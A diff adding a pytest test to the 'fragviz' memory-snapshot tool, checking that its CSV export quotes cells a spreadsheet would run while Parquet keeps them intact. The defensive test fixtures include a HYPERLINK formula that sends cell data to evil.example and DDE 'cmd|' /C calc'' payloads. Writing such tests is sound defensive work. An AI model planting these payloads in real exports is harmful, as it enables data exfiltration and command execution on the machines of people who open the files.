@@ -249,3 +249,53 @@ def test_parquet_is_refused_on_standard_output(store):
     db, ids = store
     out = run("export", str(ids[SAMPLES[0]]), "--db", db, "--format", "parquet", "-o", "-")
     assert out.returncode == 2 and out.stdout == "" and out.stderr.count("\n") == 1 and "CSV" in out.stderr
+
+
+# -- CSV opened in a spreadsheet -------------------------------------------------------------------------------
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
+            "\t=1+1", "\uff1d1+1")
+
+
+def hostile_frames_snapshot(path: str) -> str:
+    from helpers import block, ev, segment, snapshot, write_pickle
+
+    stack = [{"filename": text, "line": 1, "name": text} for text in FORMULAS]
+    events = [ev("segment_alloc", 0, 4 << 20), ev("alloc", 0, 1 << 20, frames=stack),
+              ev("alloc", 1 << 20, 1 << 20, frames=stack[1:])]
+    seg = segment(0, [block(0, 1 << 20, stack=stack), block(1 << 20, 1 << 20, stack=stack[1:]),
+                      block(2 << 20, 2 << 20, "inactive")])
+    return write_pickle(path, snapshot([seg], events))
+
+
+@pytest.mark.parametrize("what", ["allocations", "segments"])
+def test_csv_cells_a_spreadsheet_would_run_are_quoted_and_parquet_keeps_them(tmp_path, what):
+    """OWASP's rule: a text cell beginning with = + - @ (or a tab or CR before one) gets a leading '."""
+    import csv
+
+    from fragviz.cells import FORMULA_STARTS
+
+    db = str(tmp_path / "s.sqlite")
+    assert run("ingest", "--db", db, "--name", "=cmd|' /C calc'!A0", "--no-progress",
+               hostile_frames_snapshot(str(tmp_path / "f.pickle"))).returncode == 0
+    assert run("export", "1", "--db", db, "--what", what, "--format", "csv", "-o", str(tmp_path / "x.csv")).returncode == 0
+    assert run("export", "1", "--db", db, "--what", what, "--format", "parquet",
+               "-o", str(tmp_path / "x.parquet")).returncode == 0
+    with open(tmp_path / "x.csv", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    raw = pd.read_parquet(tmp_path / "x.parquet")
+    text = [c for c in DTYPES[what] if DTYPES[what][c] == "string"]
+    quoted = 0
+    for i, row in enumerate(rows):
+        for column in text:
+            cell, value = row[column], raw[column].iloc[i]
+            if pd.isna(value):
+                continue
+            assert not cell.startswith(FORMULA_STARTS), (column, cell)
+            if value.startswith(FORMULA_STARTS):
+                assert cell == "'" + value
+                quoted += 1
+            else:
+                assert cell == value
+    assert quoted > 0, "no cell began with a formula: the test proves nothing"
+    assert any(v.startswith("=HYPERLINK") for c in text for v in raw[c].dropna()), "Parquet changed the cells"
